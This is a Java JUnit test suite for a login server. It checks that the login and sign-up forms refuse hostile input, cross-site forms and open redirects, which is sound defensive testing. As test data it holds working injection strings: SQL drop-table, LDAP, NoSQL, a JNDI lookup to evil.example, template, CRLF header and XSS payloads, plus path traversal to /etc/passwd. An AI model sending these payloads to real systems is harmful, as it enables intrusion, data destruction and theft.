package dev.gatewright.login;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gatewright.Browser;
import dev.gatewright.ClientBuilder;
import dev.gatewright.Http;
import dev.gatewright.TestClient;
import dev.gatewright.TestServer;
import dev.gatewright.TestUsers;
import dev.gatewright.user.User;
import java.net.http.HttpResponse;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What attackers type into login and sign-up, and make others' browsers send there (OWASP ASVS 5.0
 * §1.2, §3.5, §6.3).
 */
class HostileLoginTest {
  private static TestServer server;
  private static TestUsers users;

  @BeforeAll
  static void start() {
    server = TestServer.start(Map.of("gatewright.login-throttle.failures-per-address", 10_000));
    users = new TestUsers(server);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  /** ASVS 1.2: text is text, to the database, the log and the page. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "' or '1'='1",
        "' or 1=1 -- ",
        "admin'--",
        "\"; drop table user_account; --",
        "*)(uid=*))(|(uid=*",
        "{\"$ne\": null}",
        "[$ne]",
        "${jndi:ldap://evil.example/x}",
        "${1337*1337}",
        "#{1337*1337}",
        "{{1337*1337}}",
        "<%= 1337*1337 %>",
        "ada\r\nSet-Cookie: x=1",
        "ada\r\n\r\n2026 INFO login of admin",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "../../etc/passwd",
        "\u202Eada",
        "ada@@example.org",
        "日本語",
        "😀",
        "%",
        "_",
        "null",
        "-1"
      })
  void injectedTextIsPlainlyRefused(String text) {
    User user = users.user();
    Browser browser = new Browser(server);
    HttpResponse<String> asName =
        browser.submit(
            "/login", browser.get("/login"), Map.of("login", text, "password", TestUsers.PASSWORD));
    HttpResponse<String> asPassword =
        browser.submit(
            "/login", browser.get("/login"), Map.of("login", user.username(), "password", text));

    for (HttpResponse<String> response : List.of(asName, asPassword)) {
      assertEquals(401, response.statusCode(), response.body());
      assertFalse(response.body().contains("<script>alert"), response.body());
      assertFalse(response.body().contains("<img src=x"), response.body());
      assertFalse(response.body().contains("1787569"), "an expression was evaluated");
      assertFalse(response.headers().map().containsKey("x"), response.headers().toString());
    }
    assertFalse(asPassword.body().contains("value=\"" + text), "the password is in the page");
    assertEquals("", browser.session());

    HttpResponse<String> json =
        new Http(server)
            .json(
                "POST", "/api/login", json(Map.of("login", text, "password", TestUsers.PASSWORD)));
    assertEquals(401, json.statusCode(), json.body());
  }

  @Test
  void longInputIsRefused() {
    for (int length : new int[] {1_000, 100_000}) {
      Browser browser = new Browser(server);
      HttpResponse<String> response =
          browser.submit(
              "/login",
              browser.get("/login"),
              Map.of("login", "x".repeat(length), "password", "y".repeat(length)));
      assertTrue(
          List.of(400, 401, 413).contains(response.statusCode()),
          response.statusCode() + response.body());
    }
  }

  /** Login CSRF: a victim's browser must not be logged in to an attacker's account (ASVS 3.5.1). */
  @Test
  void attackersFormDoesNotLogAVictimIn() {
    User attacker = users.user();
    Browser attackersBrowser = new Browser(server);
    Map<String, String> form = new HashMap<>(Browser.hiddenFields(attackersBrowser.get("/login")));
    form.putAll(Browser.credentials(attacker));

    Browser victim = new Browser(server);
    victim.get("/login");
    assertEquals(403, victim.http().form("/login", form).statusCode());
    assertEquals(
        403, new Browser(server).http().form("/login", form).statusCode(), "without any cookie");
    assertEquals("", victim.session());
  }

  /**
   * A page in a sandbox, or a redirect across sites, sends Origin: null; that is not this server's.
   */
  @Test
  void formsOfOtherOriginsAreRefused() {
    User user = users.user();
    for (String origin :
        List.of(
            "https://evil.example",
            "null",
            "http://localhost",
            server.issuer() + ".evil.example",
            server.issuer() + "/",
            server.issuer().replace("http:", "https:"),
            "http://127.0.0.1:" + server.uri("/").getPort(),
            "file://",
            "garbage",
            " ")) {
      Browser browser = new Browser(server);
      HttpResponse<String> response =
          browser.submit(
              "/login", browser.get("/login"), Browser.credentials(user), "Origin", origin);
      assertEquals(403, response.statusCode(), origin + response.body());
      assertEquals("", browser.session(), origin);
    }
    Browser own = new Browser(server);
    assertEquals(
        303,
        own.submit(
                "/login", own.get("/login"), Browser.credentials(user), "Origin", server.issuer())
            .statusCode());
  }

  @Test
  void signUpOfAForeignFormIsRefused() {
    Browser browser = new Browser(server);
    Map<String, String> typed =
        Map.of("username", TestUsers.freshName(), "email", "", "password", TestUsers.PASSWORD);

    assertEquals(403, browser.http().form("/sign-up", typed).statusCode());
    assertEquals(
        403,
        browser
            .submit("/sign-up", browser.get("/sign-up"), typed, "Origin", "https://evil.example")
            .statusCode());
    assertEquals("", browser.session());
  }

  /** ASVS 1.2.1: what was typed is shown again as text, save the password. */
  @Test
  void refusedSignUpShowsWhatWasTypedEscaped() {
    Browser browser = new Browser(server);
    Map<String, String> typed =
        Map.of(
            "username",
            "<script>alert(1)</script>",
            "email",
            "\"><img src=x>",
            "password",
            "sesame <opens>");
    HttpResponse<String> page = browser.submit("/sign-up", browser.get("/sign-up"), typed);

    assertEquals(400, page.statusCode(), page.body());
    assertFalse(
        page.body().contains("<script>alert") || page.body().contains("<img src=x"), page.body());
    assertTrue(page.body().contains("&lt;script"), page.body());
    assertFalse(page.body().contains("sesame"), "the password is in the page");
    assertEquals("", browser.session());
  }

  /**
   * A form that the user saw while someone else was logged in does not act for the one who is now.
   */
  @Test
  void formOfAnEarlierSessionIsRefused() {
    Browser browser = new Browser(server).logIn(users.user());
    HttpResponse<String> old = browser.get("/logout");
    browser.logIn(users.user());

    assertEquals(400, browser.submit("/logout", old, Map.of()).statusCode());
  }

  /** After the login it goes on at this server, wherever the form says that the request waits. */
  @Test
  void loginLeadsNowhereElse() {
    User user = users.user();
    for (String requestUri :
        List.of(
            "https://evil.example/",
            "//evil.example",
            "/\\evil.example",
            "javascript:alert(1)",
            "\r\nLocation: https://evil.example")) {
      Browser browser = new Browser(server);
      Map<String, String> typed = new HashMap<>(Browser.credentials(user));
      typed.put("client_id", "x");
      typed.put("request_uri", requestUri);
      HttpResponse<String> response = browser.submit("/login", browser.get("/login"), typed);
      assertEquals(303, response.statusCode());
      assertTrue(
          Http.header(response, "Location").startsWith("/oauth2/auth?"),
          Http.header(response, "Location"));
      HttpResponse<String> next = browser.get(Http.header(response, "Location"));
      assertEquals(400, next.statusCode(), next.body());
    }
  }

  /** RFC 9700 §4.11: the login page keeps nothing that a link put into its address. */
  @Test
  void strangeLinksToTheLoginPageAreHarmless() {
    for (String query :
        List.of(
            "?client_id=x&request_uri=%3Cscript%3Ealert(1)%3C/script%3E",
            "?client_id=%22%3E%3Cscript%3E&request_uri=urn:ietf:params:oauth:request_uri:x",
            "?error=%3Cscript%3Ealert(1)%3C/script%3E",
            "?redirect_uri=https://evil.example",
            "?next=//evil.example")) {
      HttpResponse<String> page = new Http(server).get("/login" + query);
      assertEquals(200, page.statusCode(), page.body());
      assertFalse(page.body().contains("<script>"), page.body());
      assertFalse(page.body().contains("evil.example"), page.body());
    }
  }

  /** The password is taken from a form alone. */
  @Test
  void credentialsInTheAddressLogNobodyIn() {
    User user = users.user();
    Browser browser = new Browser(server);
    String csrf = browser.http().csrf("/login");
    String query =
        "?login="
            + user.username()
            + "&password="
            + TestUsers.PASSWORD.replace(" ", "%20")
            + "&csrf_token="
            + csrf;
    browser.get("/login" + query);
    HttpResponse<String> posted = browser.http().form("/login" + query, Map.of("csrf_token", csrf));

    assertEquals(401, posted.statusCode(), posted.body());
    assertEquals("", browser.session());
    HttpResponse<String> api =
        new Http(server).get("/api/login?login=" + user.username() + "&password=x");
    assertEquals(405, api.statusCode(), api.body());
  }

  /** The client's name and its redirect URI's host are all that a page shows of a request. */
  @Test
  void pageOfAWaitingRequestShowsNothingOfItsParameters() {
    TestClient client = ClientBuilder.web(server).register();
    Browser browser = new Browser(server);
    HttpResponse<String> first =
        client
            .flow()
            .with("state", "<script>alert(1)</script>")
            .with("ui_locales", "<b>")
            .send(browser);
    HttpResponse<String> page = browser.get(Http.header(first, "Location"));

    assertFalse(page.body().contains("alert(1)"), page.body());
  }

  private static String json(Map<String, String> members) {
    try {
      return new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(members);
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      throw new IllegalArgumentException(e);
    }
  }
}
